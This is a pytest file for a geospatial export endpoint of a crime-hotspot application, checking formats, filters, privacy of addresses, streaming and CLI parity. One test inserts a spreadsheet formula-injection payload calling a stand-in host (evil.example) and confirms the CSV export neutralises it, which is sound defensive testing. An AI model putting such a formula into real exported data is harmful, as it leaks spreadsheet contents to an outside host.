"""`/export/<layer>.<ext>` over HTTP: every format read back with GDAL and checked against SQL."""

from __future__ import annotations

import csv
import http.client
import io
import json
import tempfile
import tracemalloc
import zipfile
from urllib.parse import urlsplit

import pyogrio
import pytest
import sqlalchemy as sa
from click.testing import CliRunner

from geo.catalog import LAYERS
from geo.cli import main
from geo.export import SHAPEFILE_FIELDS
from web import create_app

FORMATS = {"zip": "application/zip", "gpkg": "application/geopackage+sqlite3",
           "geojson": "application/geo+json", "csv": "text/csv; charset=utf-8"}
MAY = {"start": "2021-05-01", "end": "2021-05-31"}
# layer -> (query string, SQL for the ids the export must hold)
CASES = {
    "calls": ("start=2021-05-01&end=2021-05-31&division=Central",
              "SELECT call_id FROM calls WHERE received_at >= '2021-05-01 00:00-04' AND received_at < '2021-06-01 00:00-04'"
              " AND division_id = (SELECT division_id FROM divisions WHERE short_name = 'Central')"),
    "incidents": ("start=2021-05-01&end=2021-05-31&violent=true",
                  "SELECT incident_report_id FROM incidents WHERE date_reported >= '2021-05-01 00:00-04'"
                  " AND date_reported < '2021-06-01 00:00-04' AND category = 'violent_crime'"),
    # Real victims, some without a location: they are in every format (with an empty geometry).
    "homicides": ("start=2024-01-01&end=2024-12-31",
                  "SELECT objectid FROM homicides WHERE date_reported BETWEEN '2024-01-01' AND '2024-12-31'"),
    "divisions": ("", "SELECT division_id FROM divisions"),
    "neighborhoods": ("bbox=-80.9,35.2,-80.8,35.3",
                      "SELECT npa_id FROM neighborhoods WHERE ST_Intersects(geom, ST_MakeEnvelope(-80.9, 35.2, -80.8, 35.3, 4326))"),
    "hotspot_cells": ("", "SELECT col || '_' || \"row\" FROM hotspot_cell_results"
                          " WHERE run_id = (SELECT max(run_id) FROM analysis_runs WHERE kind = 'calls_grid_hotspots')"),
    "hotspot_npas": ("", "SELECT npa_id FROM hotspot_npa_results"
                         " WHERE run_id = (SELECT max(run_id) FROM analysis_runs WHERE kind = 'calls_npa_hotspots')"),
    "emerging_npas": ("", "SELECT npa_id FROM emerging_npa_results"
                          " WHERE run_id = (SELECT max(run_id) FROM analysis_runs WHERE kind = 'emerging_npa_hotspots')"),
}


@pytest.fixture(scope="module")
def db(web_url):
    engine = sa.create_engine(web_url)
    yield engine
    engine.dispose()


def ids_from_sql(db, sql: str) -> set[str]:
    with db.connect() as conn:
        return {str(v) for v in conn.execute(sa.text(sql)).scalars()}


def read_export(body: bytes, layer: str, ext: str, tmp_path):
    """The download as a GeoDataFrame read by GDAL (pyogrio), and the path it was saved to."""
    path = tmp_path / f"{layer}.{ext}"
    path.write_bytes(body)
    source = {"zip": f"/vsizip/{path}/{layer}.shp", "gpkg": str(path), "geojson": str(path), "csv": str(path)}[ext]
    points = ("calls", "incidents", "homicides")
    options = {"X_POSSIBLE_NAMES": "lon", "Y_POSSIBLE_NAMES": "lat"} if ext == "csv" and layer in points else {}
    return pyogrio.read_dataframe(source, **options), source


def feature_ids(df, layer: str, ext: str) -> set[str]:
    lyr = LAYERS[layer]
    if layer == "hotspot_cells":
        return {f"{int(c)}_{int(r)}" for c, r in zip(df["col"], df["row"])}
    column = SHAPEFILE_FIELDS[lyr.id_sql] if ext == "zip" else lyr.id_sql
    return {str(int(v)) if lyr.id_type == "integer" else str(v) for v in df[column]}


@pytest.mark.parametrize("ext", list(FORMATS))
@pytest.mark.parametrize("layer", list(CASES))
def test_each_layer_and_format_matches_sql(client, db, tmp_path, layer, ext):
    query, sql = CASES[layer]
    r = client.get(f"/export/{layer}.{ext}?{query}")
    assert r.status_code == 200, r.get_data(as_text=True)
    assert r.headers["Content-Type"] == FORMATS[ext]
    assert r.headers["Content-Disposition"].startswith(f'attachment; filename="{layer}.{ext}"')
    df, source = read_export(r.get_data(), layer, ext, tmp_path)
    expected = ids_from_sql(db, sql)
    assert len(expected) > 0 and len(df) == len(expected)
    assert feature_ids(df, layer, ext) == expected
    assert df.crs is not None and df.crs.to_epsg() == 4326 or ext == "csv"   # CSV carries no CRS of its own
    if ext in ("zip", "gpkg"):
        assert int(r.headers["X-Export-Rows"]) == len(expected) == pyogrio.read_info(source)["features"]
        assert pyogrio.read_info(source)["crs"] == "EPSG:4326"
    public = {SHAPEFILE_FIELDS[p.name] if ext == "zip" else p.name for p in LAYERS[layer].public}
    extra = {"geometry"} | ({"lon", "lat"} if ext == "csv" and LAYERS[layer].geometry_type == "Point" else set())
    if ext == "csv" and LAYERS[layer].geometry_type != "Point":
        extra |= {"wkt"}
    if ext == "geojson" and "id" in df.columns:
        # GDAL shows a Feature's string `id` as a field: it must be the layer's id.
        assert {str(v) for v in df["id"]} == expected
        extra |= {"id"}
    assert set(df.columns) - extra == public


def test_call_values_match_the_database(client, db, tmp_path):
    r = client.get("/export/calls.gpkg?start=2021-05-01&end=2021-05-31&division=Central")
    df, _ = read_export(r.get_data(), "calls", "gpkg", tmp_path)
    sample = df.sort_values("call_id").iloc[::max(1, len(df) // 12)]
    with db.connect() as conn:
        rows = {row.call_id: row for row in conn.execute(sa.text(
            "SELECT call_id, received_at, call_type, p_violent, label, npa_id, ST_X(geom) AS x, ST_Y(geom) AS y"
            " FROM calls WHERE call_id = ANY(:ids)"), {"ids": list(sample["call_id"])})}
    assert len(rows) == len(sample) >= 5
    for rec in sample.itertuples():
        row = rows[rec.call_id]
        assert rec.received_at == row.received_at and rec.call_type == row.call_type
        assert rec.p_violent == pytest.approx(row.p_violent, abs=1e-7) and bool(rec.violent) == bool(row.label)
        assert (rec.geometry.x, rec.geometry.y) == (row.x, row.y)


def test_shapefile_zip_holds_the_five_parts_and_the_mapping(client):
    r = client.get("/export/hotspot_npas.zip")
    zf = zipfile.ZipFile(io.BytesIO(r.get_data()))
    assert sorted(zf.namelist()) == sorted([f"hotspot_npas{s}" for s in (".shp", ".shx", ".dbf", ".prj", ".cpg")]
                                           + ["fields.csv"])
    mapping = list(csv.DictReader(io.StringIO(zf.read("fields.csv").decode())))
    assert ("hotspot_class", "hs_class") in [(m["property"], m["field"]) for m in mapping]
    assert b"WGS_1984" in zf.read("hotspot_npas.prj")


def test_private_address_never_leaves(client, db, tmp_path):
    with db.connect() as conn:
        addresses = conn.execute(sa.text("SELECT address FROM calls WHERE address IS NOT NULL AND received_at"
                                         " >= '2021-05-01' AND received_at < '2021-05-03' LIMIT 20")).scalars().all()
    assert addresses
    for ext in FORMATS:
        body = client.get(f"/export/calls.{ext}?start=2021-05-01&end=2021-05-02").get_data()
        df, _ = read_export(body, "calls", ext, tmp_path)
        assert "address" not in df.columns and len(df) > 0
        if ext in ("csv", "geojson"):
            assert not any(a.encode() in body for a in addresses)


def test_filters_change_the_rows(client, db):
    def rows(query):
        r = client.get(f"/export/calls.csv?{query}")
        assert r.status_code == 200
        return r.get_data().count(b"\r\n") - 1

    everything, violent = rows("start=2021-05-01&end=2021-05-31"), rows("start=2021-05-01&end=2021-05-31&violent=true")
    likely = rows("start=2021-05-01&end=2021-05-31&min_p=0.5")
    with db.connect() as conn:
        expected = conn.execute(sa.text(
            "SELECT count(*), count(*) FILTER (WHERE label), count(*) FILTER (WHERE p_violent >= 0.5) FROM calls"
            " WHERE received_at >= '2021-05-01 00:00-04' AND received_at < '2021-06-01 00:00-04'")).one()
    assert (everything, violent, likely) == tuple(expected)
    assert 0 < violent < everything


@pytest.mark.parametrize("url, parameter", [
    ("/export/calls.xls", "format"),
    ("/export/calls", "format"),
    ("/export/calls.csv?start=2021-13-01", "start"),
    ("/export/calls.zip?bbox=1,2,3", "bbox"),
    ("/export/incidents.csv?min_p=0.5", "min_p"),
    ("/export/divisions.gpkg?division=Central", "division"),
    ("/export/calls.csv?run=1", "run"),
    ("/export/hotspot_cells.zip?run=abc", "run"),
])
def test_bad_requests_are_400_naming_the_parameter(client, url, parameter):
    r = client.get(url)
    assert r.status_code == 400
    body = r.get_json()
    assert body["parameter"] == parameter and body["code"] == "InvalidParameterValue"
    assert "Traceback" not in body["description"]


def test_run_selects_a_saved_run(client, db):
    with db.connect() as conn:
        run = conn.execute(sa.text("SELECT max(run_id) FROM analysis_runs WHERE kind = 'calls_npa_hotspots'")).scalar()
        n = conn.execute(sa.text("SELECT count(*) FROM hotspot_npa_results WHERE run_id = :r"), {"r": run}).scalar()
    r = client.get(f"/export/hotspot_npas.geojson?run={run}")
    doc = json.loads(r.get_data())
    assert r.headers["X-Analysis-Run"] == str(run) and len(doc["features"]) == n == 462
    assert {f["properties"]["run_id"] for f in doc["features"]} == {run}


def test_csv_formula_injection_is_defused(writable_url):
    engine = sa.create_engine(writable_url)
    with engine.begin() as conn:
        conn.execute(sa.text(
            "INSERT INTO calls (call_id, received_at, call_type, priority, geom, division_id, p_violent, label,"
            " row_hash, batch_id) VALUES ('EVIL-1', '2021-06-15 12:00-04', :t, 1,"
            " ST_SetSRID(ST_Point(-80.84, 35.22), 4326), '01', 0.5, true, 0, 0)"),
            {"t": '=HYPERLINK("http://evil.example/?"&A1,"Click")'})
    engine.dispose()
    client = create_app({"DATABASE_URL": writable_url, "TESTING": True}).test_client()
    r = client.get("/export/calls.csv?start=2021-06-15&end=2021-06-15")
    table = list(csv.DictReader(io.StringIO(r.get_data(as_text=True), newline="")))
    evil = next(row for row in table if row["call_id"] == "EVIL-1")
    assert evil["call_type"] == '\'=HYPERLINK("http://evil.example/?"&A1,"Click")'
    assert evil["lon"] == "-80.84" and evil["p_violent"] == "0.5"     # numbers are left alone
    assert all(not row[c].startswith(("=", "+", "-", "@")) for row in table for c in ("call_type", "call_id"))


def test_cli_writes_the_same_rows_as_http(client, web_url, tmp_path):
    env = {"DATABASE_URL": web_url, "HOTSPOTS_VAR_DIR": str(tmp_path / "var")}
    runner = CliRunner()
    result = runner.invoke(main, ["export", "calls", "--out", str(tmp_path / "cli.csv"), "--from", "2021-05-01",
                                  "--to", "2021-05-31", "--division", "Central", "--min-p", "0.01"], env=env)
    assert result.exit_code == 0, result.output
    http_body = client.get("/export/calls.csv?start=2021-05-01&end=2021-05-31&division=Central&min_p=0.01").get_data()
    rows = http_body.count(b"\r\n") - 1
    assert (tmp_path / "cli.csv").read_bytes() == http_body and rows > 10
    assert f"wrote {rows:,} calls rows" in result.output

    result = runner.invoke(main, ["export", "hotspot_cells", "--format", "zip", "--out", str(tmp_path / "cells.zip")],
                           env=env)
    assert result.exit_code == 0, result.output
    cli_df = pyogrio.read_dataframe(f"/vsizip/{tmp_path / 'cells.zip'}/hotspot_cells.shp")
    http_df, _ = read_export(client.get("/export/hotspot_cells.zip").get_data(), "hotspot_cells", "zip", tmp_path)
    assert feature_ids(cli_df, "hotspot_cells", "zip") == feature_ids(http_df, "hotspot_cells", "zip")
    assert cli_df["gi_z"].round(9).tolist() == http_df["gi_z"].round(9).tolist()

    # --start is the old name of --from (the same option); divisions have no dates.
    result = runner.invoke(main, ["export", "divisions", "--out", str(tmp_path / "d.csv"), "--start", "2021-01-01"], env=env)
    assert result.exit_code == 2 and "--from" in result.output

    # .shp: the shapefile itself (the zip's members under the name asked for), readable as it is.
    result = runner.invoke(main, ["export", "divisions", "--out", str(tmp_path / "divisions.shp")], env=env)
    assert result.exit_code == 0, result.output
    assert sorted(p.name for p in tmp_path.glob("divisions.*")) == [
        "divisions.cpg", "divisions.dbf", "divisions.fields.csv", "divisions.prj", "divisions.shp", "divisions.shx"]
    shp = pyogrio.read_dataframe(tmp_path / "divisions.shp")
    zipped, _ = read_export(client.get("/export/divisions.zip").get_data(), "divisions", "zip", tmp_path)
    assert len(shp) == len(zipped) == 14 and sorted(shp["div_id"]) == sorted(zipped["div_id"])
    assert shp.crs.to_epsg() == 4326


def test_streamed_in_chunks_with_bounded_memory(web_url):
    app = create_app({"DATABASE_URL": web_url, "TESTING": True, "EXPORT_CHUNK_ROWS": 500})
    client = app.test_client()
    with client.get("/export/calls.csv", buffered=False) as r:
        assert r.is_streamed and "Content-Length" not in r.headers
        tracemalloc.start()
        pieces = size = 0
        for piece in r.response:
            pieces += 1
            size += len(piece)
        peak = tracemalloc.get_traced_memory()[1]
        tracemalloc.stop()
    # 40k calls in chunks of 500: one piece per chunk, and only about one chunk in memory at a time.
    assert pieces >= 80 and size > 4_000_000 and peak < size / 10


def test_temporary_files_are_removed(client, tmp_path, monkeypatch):
    monkeypatch.setattr(tempfile, "tempdir", str(tmp_path))
    r = client.get("/export/calls.zip?start=2021-05-01&end=2021-05-31")
    assert len(r.get_data()) == int(r.headers["Content-Length"]) > 0
    r.close()
    # A client that leaves before reading anything: the response is closed unread.
    r = client.get("/export/calls.gpkg?start=2021-05-01&end=2021-05-31", buffered=False)
    r.close()
    assert list(tmp_path.iterdir()) == []


def test_real_http_client_gets_a_chunked_stream(live_server):
    url = urlsplit(live_server)
    conn = http.client.HTTPConnection(url.hostname, url.port, timeout=60)
    conn.request("GET", "/export/calls.geojson?start=2021-05-01&end=2021-05-07")
    resp = conn.getresponse()
    assert resp.status == 200 and resp.getheader("Content-Type") == "application/geo+json"
    assert resp.getheader("Content-Length") is None
    doc = json.loads(resp.read())
    conn.close()
    assert doc["type"] == "FeatureCollection" and len(doc["features"]) > 100
    assert all(f["properties"]["received_at"].startswith("2021-05-0") for f in doc["features"])
